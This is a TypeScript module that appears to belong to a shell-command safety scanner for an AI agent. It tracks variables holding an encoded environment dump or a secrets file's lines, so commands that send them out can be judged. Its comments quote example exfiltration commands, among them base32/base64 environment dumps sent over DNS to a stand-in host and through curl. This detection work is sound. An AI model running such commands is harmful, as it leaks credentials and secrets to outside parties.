/**
 * Variables that hold a dump of the environment: `for l in $(env | base32)`,
 * `env | base64 | while read l`, `x=$(printenv | gzip | base64)`. Sending
 * such a variable anywhere (`dig +short $l.x.example`, `curl …/?d=$x`) sends
 * the agent's secrets with it, a line or a chunk at a time, so the senders
 * judge a reference to one like the dump itself.
 *
 * @module
 */

import type { Script } from "../shell/ast.ts";
import { commandNamedIn } from "./ast_scan.ts";
import { FILE_READERS, isDumper } from "./dumpers.ts";
import type { Arg, State, Unit } from "./unit.ts";
import { heldVar } from "./var_refs.ts";
import { credentialOf, isEnvFile, resolvePath } from "./paths.ts";

/** The dumping program among the commands of some substitutions, if any. */
export function dumperIn(scripts: readonly Script[]): string | null {
  return commandNamedIn(scripts, isDumper, 16);
}

/** The dump-holding variable a text refers to (`$l`, `${x}`), with its dumper, or null. */
export function dumpVarIn(
  text: string,
  st: State,
): [string, string] | null {
  return heldVar(text, st.out.dumpVars);
}

/** Remembers (or forgets) `name` as holding an environment dump, from the value assigned to it. */
export function trackDumpVar(name: string, value: Arg, st: State): void {
  // x=$(env | base64), or y=$x: a copy of a dump is a dump too.
  const via = (value.subs.length ? dumperIn(value.subs) : null) ??
    dumpVarIn(value.text, st)?.[1];
  if (via) st.out.dumpVars.set(name, via);
  else st.out.dumpVars.delete(name);
}

/** `for l in $(env | base32)`: the loop variable holds the dump. */
export function trackDumpLoop(
  name: string,
  values: readonly Arg[],
  st: State,
): void {
  for (const v of values.slice(0, 64)) {
    const via = v.subs.length ? dumperIn(v.subs) : dumpVarIn(v.text, st)?.[1];
    if (via) {
      st.out.dumpVars.set(name, via);
      return;
    }
  }
  st.out.dumpVars.delete(name);
}

/** Marks a dump variable's source as a secrets file (`file:PATH`), not the environment. */
export const SECRET_FILE = "file:";

/**
 * `env | base64 | while read l`: the variables a read fills hold the dump
 * when an earlier element printed the environment; `cat .env | base64 |
 * while read c` fills them with a secrets file's lines (recorded as
 * {@link SECRET_FILE} and its path).
 */
export function trackDumpRead(
  names: readonly string[],
  before: readonly Unit[],
  st: State,
): void {
  const dumper = before.find((u) =>
    isDumper(u.name, u.args.map((a) => a.text))
  );
  let via = dumper?.name;
  if (!via) {
    for (const u of before) {
      if (!FILE_READERS.has(u.name)) continue;
      for (const a of u.args.slice(0, 16)) {
        if (!a.known || a.text.startsWith("-")) continue;
        const p = resolvePath(a.text, st.cwd, st.ctx.home);
        if (
          p !== null && (isEnvFile(p) || credentialOf(p, st.ctx.home, false))
        ) {
          via = SECRET_FILE + p;
          break;
        }
      }
      if (via) break;
    }
  }
  if (!via) return;
  for (const n of names.slice(0, 16)) st.out.dumpVars.set(n, via);
}
